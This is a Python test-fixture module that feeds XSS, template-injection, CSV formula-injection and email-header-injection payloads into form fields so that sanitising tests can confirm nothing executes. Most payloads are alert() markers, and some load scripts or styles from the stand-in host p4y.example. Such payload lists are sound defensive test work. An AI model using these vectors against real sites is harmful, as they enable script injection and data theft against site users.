"""What is typed: each would run, lead away or make an element somewhere, if a page took it for anything but text.

Every element would carry the mark, by which it is found in a page although nothing else of it works.
"""

from itertools import count

from checkmyogp.domain.texts import clean_text

MARK = "p4y"

MARKUP = (
    "<script data-p4y>alert('p4y')</script>",
    "<ScRiPt data-p4y src=//p4y.example/x.js></sCrIpT>",
    "<img data-p4y src=x onerror=alert('p4y')>",
    "<img data-p4y src=x:x onerror=alert`p4y`//",
    "<svg data-p4y onload=alert('p4y')></svg>",
    "<svg data-p4y><animate data-p4y onbegin=alert('p4y') attributeName=x dur=1s></svg>",
    "<svg data-p4y><script data-p4y>alert&#40;'p4y'&#41;</script></svg>",
    "<math data-p4y><mtext><table><mglyph><style data-p4y><img data-p4y src=x onerror=alert('p4y')>",
    "<details data-p4y open ontoggle=alert('p4y')>p4y</details>",
    "<input data-p4y autofocus onfocus=alert('p4y')>",
    "<video data-p4y><source data-p4y onerror=alert('p4y')></video>",
    "<body data-p4y onload=alert('p4y')>",
    "<iframe data-p4y srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe data-p4y src=javascript:alert('p4y')></iframe>",
    "<object data-p4y data=data:text/html,<script>alert('p4y')</script>></object>",
    "<embed data-p4y src=//p4y.example/x.swf>",
    "<base data-p4y href=//p4y.example/>",
    "<meta data-p4y http-equiv=refresh content='0;url=//p4y.example/'>",
    "<link data-p4y rel=stylesheet href=//p4y.example/x.css>",
    "<style data-p4y>body{display:none;background:url(//p4y.example/x)}</style>",
    "<a data-p4y href=javascript:alert('p4y')>p4y</a>",
    "<form data-p4y action=//p4y.example/><button data-p4y formaction=javascript:alert('p4y')>p4y</button></form>",
    "</textarea><img data-p4y src=x onerror=alert('p4y')>",
    "</title><script data-p4y>alert('p4y')</script>",
    "</script><script data-p4y>alert('p4y')</script>",
    "</blockquote></main></body><h1 data-p4y>p4y</h1>",
    "<!-- p4y --!><img data-p4y src=x onerror=alert('p4y')>",
    "<![CDATA[<img data-p4y src=x onerror=alert('p4y')>]]>",
    "\" onmouseover=alert('p4y') data-p4y=\"",
    "' onfocus=alert('p4y') autofocus data-p4y='",
    "\"><img data-p4y src=x onerror=alert('p4y')>",
    "'><svg data-p4y onload=alert('p4y')>",
    "` onload=alert('p4y') data-p4y=`",
    "\\x3cimg data-p4y src=x onerror=alert('p4y')\\x3e p4y",
    "&lt;script data-p4y&gt;alert('p4y')&lt;/script&gt;",
    "&#60;img data-p4y src=x onerror=alert('p4y')&#62;",
    '\\u003cscript data-p4y\\u003ealert("p4y")\\u003c/script\\u003e',
    '"}]};alert("p4y");//<script data-p4y>',
    "\uff1cscript data-p4y\uff1ealert('p4y')\uff1c/script\uff1e",
    "<\u0131mg data-p4y src=x onerror=alert('p4y')><\u017fcript data-p4y>alert('p4y')</\u017fcript>",
    "\u202e<img data-p4y src=x onerror=alert('p4y')>\u202c p4y",
    "<scr\u200bipt data-p4y>alert('p4y')</scr\u200bipt>",
    "{{ 7*7 }}{% raw %}{{ config }} p4y ${7*7} #{7*7} <%= 7*7 %>",
    "{{ ''.__class__.__mro__ }} %(p4y)s %s {0.__class__} {p4y}",
    '=HYPERLINK("http://p4y.example/","p4y")',
    "+p4y|' /C calc'!A0",
    "@SUM(1+1)*p4y",
    "\uff1dcmd|'p4y'!A1",
    "p4y\r\nBcc: p4y@p4y.example\r\n\r\n<b data-p4y>p4y</b>",
)

LINKS = (
    'https://p4y.example/"onmouseover="alert(\'p4y\')"data-p4y="',
    "https://p4y.example/'onfocus='alert(1)'data-p4y='",
    "https://p4y.example/\"><img/data-p4y/src=x/onerror=alert('p4y')>",
    "https://p4y.example/?q=<script/data-p4y>alert('p4y')</script>",
    "http://javascript:alert('p4y')@p4y.example/",
    "https://p4y.example/#javascript:alert('p4y')",
    "https://p4y.example/{{7*7}}/&quot;&#x22;&lt;svg/data-p4y/onload=alert(1)&gt;",
)
"""Plain web addresses, as far as anybody can tell, that try to leave the attribute they stand in."""

REFUSED_LINKS = (
    "javascript:alert('p4y')",
    "JaVaScRiPt:alert('p4y')//https://p4y.example/",
    "\tjavascript:alert('p4y')",
    "java\nscript:alert('p4y')",
    "data:text/html,<script>alert('p4y')</script>",
    "vbscript:msgbox('p4y')",
    "//p4y.example/",
    "https:javascript:alert('p4y')",
    "https://p4y.example/ onmouseover=alert('p4y')",
    "file:///etc/p4y",
)
"""Addresses that may stand behind no link."""


class Texts:
    """One payload after the other, so that each field gets its own and all are used in turn."""

    def __init__(self, first: int = 0) -> None:
        """Begin with this one."""
        self._turns = count(first)
        self.typed: set[str] = set()

    def raw(self, longest: int = 300) -> str:
        """The next one that fits, as it is typed."""
        for turn in self._turns:
            found = MARKUP[turn % len(MARKUP)]
            if len(found) <= longest:
                self.typed.add(found)
                return found
        raise AssertionError("the turns have no end")

    def line(self, longest: int = 300) -> str:
        """The same as a form hands it on."""
        return " ".join(clean_text(self.raw(longest)).split())

    def prose(self, number: int = 4) -> str:
        """A few of them on lines of their own, as a form hands them on."""
        return clean_text("\n\n".join(self.raw() for _ in range(number)))

    def link(self) -> str:
        """The next address."""
        return LINKS[next(self._turns) % len(LINKS)]
